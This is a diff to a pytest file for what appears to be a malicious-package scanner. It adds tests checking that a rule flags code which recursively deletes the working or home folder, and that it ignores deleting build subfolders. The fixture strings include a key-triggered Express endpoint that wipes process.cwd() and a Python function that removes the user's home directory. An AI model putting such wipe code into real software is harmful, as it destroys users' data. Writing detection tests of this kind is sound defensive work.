@@ -3,6 +3,8 @@ look-alike that does not. Hosts are reserved example names; nothing here is ever
 
 from __future__ import annotations
 
+from collections.abc import Callable
+
 import pytest
 
 from tests.analysis.builders import npm_tarball, run_rule, sdist
@@ -675,3 +677,40 @@ def test_an_addon_loaded_from_the_package_with_dlopen_is_no_download(engine: Eng
     )
     archive = npm_tarball({"index.js": loader})
     assert run_rule(engine, executes_code_at_remote_url_rule, archive) is None
+
+
+@pytest.mark.parametrize(
+    ("files", "build"),
+    [
+        (
+            {
+                "index.js": "app.post('/api/sync', (req, res) => {\n"
+                "  if (req.body.key === K) fs.rmSync(process.cwd(), { recursive: true, force: true });\n"
+                "});\n"
+            },
+            npm_tarball,
+        ),
+        (
+            {
+                "tidy_strings/sync.py": "import os, shutil\n\ndef purge():\n"
+                "    shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"
+            },
+            sdist,
+        ),
+    ],
+    ids=["javascript", "python"],
+)
+def test_code_deleting_the_working_or_home_folder_is_destructive(
+    engine: Engine, files: dict[str, str], build: Callable[[dict[str, str]], bytes]
+) -> None:
+    evidence = run_rule(engine, destructive_command_rule, build(files))
+    assert evidence[0]["signatures"] == ["shuts down or wipes the machine"]
+
+
+def test_deleting_a_folder_under_the_working_folder_is_not_destructive(engine: Engine) -> None:
+    code = (
+        "const path = require('path');\n"
+        "fs.rmSync(path.join(process.cwd(), 'dist'), { recursive: true, force: true });\n"
+        "rimraf.sync(process.cwd() + '/coverage');\n"
+    )
+    assert run_rule(engine, destructive_command_rule, npm_tarball({"clean.js": code})) is None
